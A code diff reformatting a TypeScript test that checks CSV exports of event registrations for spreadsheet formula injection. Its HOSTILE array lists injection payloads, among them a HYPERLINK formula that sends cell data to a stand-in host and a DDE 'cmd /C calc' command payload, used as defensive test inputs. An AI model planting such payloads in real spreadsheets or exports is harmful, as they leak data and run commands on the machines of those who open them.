@@ -9,7 +9,14 @@ import { registrationsCsv } from '../../src/server/events/registrations/registra
 import type { EventRegistrationRow } from '../../src/server/events/registrations/registration-reads';
 import { csvStream } from '../../src/server/open-data/encode';
 
-const HOSTILE = ['=HYPERLINK("http://example.test/?"&A1,"Xem")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1', '\r=1'];
+const HOSTILE = [
+  '=HYPERLINK("http://example.test/?"&A1,"Xem")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1',
+  '\r=1',
+];
 
 describe('CSV exports', () => {
   it('write a registration note that starts like a formula as text, and a phone +84… still readable', () => {
@@ -20,7 +27,15 @@ describe('CSV exports', () => {
       note,
       createdAt: new Date('2026-11-24T03:00:00Z'),
       updatedAt: new Date('2026-11-24T03:00:00Z'),
-      cooperative: { id: 'c1', slug: 'htx', name: 'HTX Thử', provinceNameVi: 'Hà Nội', provinceNameEn: 'Ha Noi', phone: '+84912345678', email: 'htx@example.test' },
+      cooperative: {
+        id: 'c1',
+        slug: 'htx',
+        name: 'HTX Thử',
+        provinceNameVi: 'Hà Nội',
+        provinceNameEn: 'Ha Noi',
+        phone: '+84912345678',
+        email: 'htx@example.test',
+      },
       products: [],
     });
     const records: string[][] = parse(registrationsCsv(HOSTILE.map(row)).replace(/^\uFEFF/, ''));
